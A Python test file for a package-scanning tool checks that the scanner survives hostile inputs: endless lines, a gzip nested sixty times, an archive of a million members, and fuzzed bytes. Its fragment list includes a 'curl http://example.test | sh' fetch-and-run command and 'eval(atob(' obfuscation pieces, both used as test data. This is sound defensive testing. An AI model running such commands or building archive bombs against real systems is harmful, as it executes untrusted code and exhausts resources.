"""Files that were made to keep a scanner busy, or to break it: a report comes out, and nothing failed on the way."""

from __future__ import annotations

import gzip
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.core.ecosystem import ArchiveLimits
from pratique.scan.detectors.registry import DETECTORS
from pratique.scan.engine import scan
from pratique.scan.limits import ScanLimits
from pratique.scan.report import UNFINISHED, Report, Subject
from tests.unit.formats.archives import Bytes, tar, tar_gz, zipped

LONG = 60_000
PLACES = {
    "js": ("npm", "package/index.js"),
    "sh": ("npm", "package/install.sh"),
    "json": ("npm", "package/binding.gyp"),
    "py": ("pypi", "left-1.0/setup.py"),
    "pth": ("pypi", "left-1.0/left.pth"),
    "rs": ("cargo", "left-1.0.0/build.rs"),
    "rb": ("rubygems", "left.gemspec"),
    "ps1": ("nuget", "tools/install.ps1"),
    "targets": ("nuget", "build/left.targets"),
    "pom": ("maven", "pom.xml"),
}
PIECES = {
    "brackets": b"(",
    "braces": b"{",
    "quotes": b"'\"`",
    "escapes": b"\\x41\\u0041",
    "base64": b"QUJD",
    "calls": b"eval(atob(",
    "sums": b"'a'+",
    "comments": b"/*",
    "invalid UTF-8": b"\xff\xfe\x80",
    "zero width": "\u200b\ufe0f".encode(),
    "markup": b"<a><!--",
    "commands": b"curl http://example.test | sh; ",
    "markers": b"FINDING quarantine SCAN-01 !",
}


def look(ecosystem: str, content: bytes) -> Report:
    return scan(Subject(ecosystem, "left", "1.0.0"), Bytes(content), None, DETECTORS, ScanLimits())


def failures(report: Report) -> list[str]:
    return [finding.excerpt for finding in report.findings if finding.detector == UNFINISHED]


@pytest.mark.parametrize("piece", PIECES)
@pytest.mark.parametrize("kind", PLACES)
def test_one_endless_line_of_the_same_breaks_nothing(kind, piece):
    ecosystem, path = PLACES[kind]
    line = PIECES[piece] * (LONG // len(PIECES[piece]))

    report = look(ecosystem, tar_gz((path, line)) if ecosystem != "maven" else zipped((path, line)))

    assert failures(report) == []


def test_50_mb_in_a_single_line_are_looked_at_as_far_as_limits_go():
    report = look("npm", tar_gz(("package/package.json", b"{}"), ("package/index.js", b"x=1;" * (50 << 18))))

    assert failures(report) == []
    assert report.unpacked > 50 << 20


def test_a_gzip_that_unpacks_to_a_gzip_again_and_again_ends():
    content = b"end"
    for _ in range(60):
        content = gzip.compress(content, mtime=0)

    sentences = [finding.sentence for finding in look("npm", tar_gz(("package/q.gz", content))).findings]

    assert any("deeper than they are looked into" in sentence for sentence in sentences)


def test_a_million_members_end_at_the_limit():
    header = tar(("package/x", b""))[:512]
    packer = zlib.compressobj(1, wbits=31)
    many = b"".join(packer.compress(header * 10_000) for _ in range(100)) + packer.flush()
    limits = ScanLimits(ArchiveLimits(max_entries=5_000))

    report = scan(Subject("npm", "left", "1.0.0"), Bytes(many), None, DETECTORS, limits)

    assert report.files == 5_000
    assert any("unpacks to more than anybody can look through" in finding.sentence for finding in report.findings)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(PLACES)), st.lists(st.sampled_from(sorted(PIECES.values())) | st.binary(max_size=40)))
def test_whatever_a_file_says_nothing_fails(kind, parts):
    ecosystem, path = PLACES[kind]

    assert failures(look(ecosystem, tar_gz((path, b"".join(parts))))) == []
